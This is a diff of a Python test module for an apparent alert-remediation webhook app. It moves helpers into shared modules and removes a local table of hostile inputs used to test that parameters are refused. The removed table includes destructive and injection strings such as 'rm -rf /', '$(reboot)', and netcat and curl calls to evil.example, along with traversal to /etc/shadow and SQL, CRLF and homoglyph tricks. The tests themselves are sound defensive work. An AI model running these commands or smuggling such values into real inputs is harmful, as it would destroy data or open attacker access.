@@ -10,7 +10,6 @@ from __future__ import annotations
 
 import io
 import json
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -18,75 +17,18 @@ from flask import Flask
 
 from app.config import Settings
 from app.web.auth import LIMITER_KEY, AuthFailureLimiter
-from tests.fakes import FakeSample, fake_actions
-from tests.payloads import alert, body, ingest_inbox, payload, xid
-from tests.unit.test_engine import GRANTS, PLAYBOOK
-from tests.unit.test_webhook import VIEWER, make_app, reader_client
+from tests.fakes import fake_actions
+from tests.payloads import HOSTILE, alert, body, ingest_inbox, payload, xid
+from tests.webapps import build_app, headers, make_app, reader_client
+from tests.worlds import PLAYBOOK
 
-TOKEN = "hostile-input-webhook-token"
 # Actions whose parameters name things (patterned); fake.notice is free text for humans, like a chat message.
 NAMING_ACTIONS = ("fake.drain", "fake.requeue", "fake.resume", "fake.logs")
-
-HOSTILE = {
-    "semicolon": "node1; rm -rf /",
-    "substitution": "$(reboot)",
-    "backticks": "`id`",
-    "pipe": "node1|nc evil.example 4444",
-    "redirect": "node1>/etc/passwd",
-    "and": "node1 && curl http://evil.example",
-    "option": "--help",
-    "glob": "node*",
-    "quote": "node1' OR '1'='1",
-    "traversal": "../../etc/passwd",
-    "absolute": "/etc/shadow",
-    "newline": "node1\nrm -rf /",
-    "crlf": "node1\r\nX-Injected: 1",
-    "nul": "node1\x00evil",
-    "tab": "node1\tx",
-    "huge": "n" * 4096,  # the parser's limit: accepted as data, refused by every pattern
-    "unicode": "nöde-ünïcödé",
-    "rtl_override": "node1\u202egnp.exe",
-    "zero_width": "node\u200b1",
-    "homoglyph": "nod\u04351",  # Cyrillic e
-    "emoji": "node\U0001f525",
-    "promql": '"} or vector(1) or {a="',
-    "format": "%s%n%x{0}",
-}
 
 
 def refused_by_parser(value: str) -> bool:
     """NUL: no label source emits it and PostgreSQL cannot store it, so the payload parser refuses it (400)."""
     return "\x00" in value
-
-
-def build_app(tmp_path: Path, *, store_url: str | None = None, **webhook: Any) -> Flask:
-    """The real app (fake actions, fake clock, Prometheus answering every re-check), every step whitelisted."""
-    (tmp_path / "playbooks").mkdir()
-    (tmp_path / "playbooks" / "gpu.yaml").write_text(PLAYBOOK)
-    grants = "".join(f"  - action: {name}\n" for name in GRANTS)
-    (tmp_path / "permissions.yaml").write_text(
-        f"apiVersion: nightshift/v1\nkind: Permissions\nallow:\n{grants}"
-    )
-    (tmp_path / "token").write_text(TOKEN)
-    settings = Settings(
-        data_dir=str(tmp_path / "var"),
-        playbook_paths=[str(tmp_path / "playbooks")],
-        permissions_file=str(tmp_path / "permissions.yaml"),
-        store_url=store_url,
-    )
-    settings.webhook.token_file = str(tmp_path / "token")
-    (tmp_path / "viewer").write_text(VIEWER)
-    settings.access.viewer_token_file = str(tmp_path / "viewer")
-    settings.episodes.correlation_seconds = 0  # act at once: the episode window is not what these tests probe
-    for key, value in webhook.items():
-        setattr(settings.webhook, key, value)
-    app = make_app(settings)
-    app.extensions["nightshift"].engine.deps.clients.prometheus.default = [FakeSample({}, 1.0)]
-    return app
-
-
-def headers(token: str = TOKEN) -> dict[str, str]:
-    return {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
 
 
 def calls(app: Flask, action: str) -> list[dict[str, Any]]:
